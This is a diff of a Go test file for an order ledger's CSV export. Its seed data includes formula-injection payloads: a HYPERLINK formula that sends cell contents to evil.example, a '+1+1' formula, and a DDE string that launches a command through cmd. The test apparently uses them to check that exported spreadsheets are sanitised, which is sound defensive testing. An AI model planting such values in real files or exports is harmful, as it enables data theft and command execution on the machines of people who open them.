@@ -72,7 +72,7 @@ func TestExport(t *testing.T) {
 	}
 	acts, err := b.s.Ledger.ActivityPage(b.Context(), shopHash, 0, 3)
 	b.ok(err)
-	if a := acts[2]; a.Action != ledger.ActExported || a.Actor != "reviewer@abc123.example" || a.Subject != "orders" || a.Detail != "held" {
+	if a := acts[2]; a.Action != ledger.ActExported || a.Actor != "reviewer@abc123.example" || a.Subject != "orders" || a.Detail != "filter held" {
 		t.Errorf("activity %+v", a)
 	}
 	b.want(200, b.as(ledger.Reviewer, shopBase+"/orders?filter=held", nil), `href="/s/abc123/orders.csv?filter=held"`)
@@ -84,7 +84,7 @@ var hostile = []string{`=HYPERLINK("http://evil.example?"&A1,"Refund")`, "+1+1",
 	"Ünï 💡", "'already", "plain"}
 
 // seed fills the first Shop with orders that were settled in a way, newest last.
-func (b *bench) seed(count int, hold ledger.HoldState) {
+func (b *bench) seed(count int, hold ledger.HoldState, change ...func(*ledger.Order)) {
 	b.Helper()
 	l, shop, now := b.s.Ledger, b.shop(shopHash), b.clock()
 	found := make([]ledger.Swept, count)
@@ -103,6 +103,9 @@ func (b *bench) seed(count int, hold ledger.HoldState) {
 				id := leases[i].OrderID
 				o := ledger.Order{ID: id, StatusID: 12, Hold: hold, FormerStatus: 11, HoldStatus: 12, HeldAt: now, PlacedAt: now, ModifiedAt: now,
 					Buyer: ledger.Buyer{Name: hostile[id%int64(len(hostile))], Mailbox: "=cmd|' /C calc'!A0"}, Value: gate.Money{Minor: id, Currency: "USD"}, Source: "-www"}
+				for _, c := range change {
+					c(&o)
+				}
 				n := ledger.Settlement{Order: o}
 				if id%20 == 0 { // signing each would take most of the time
 					n.Decision = &ledger.NewDecision{Facts: gate.Facts{Stage: gate.AtOrder, OrderID: id}, Policy: 1, MadeBy: ledger.ByRule,
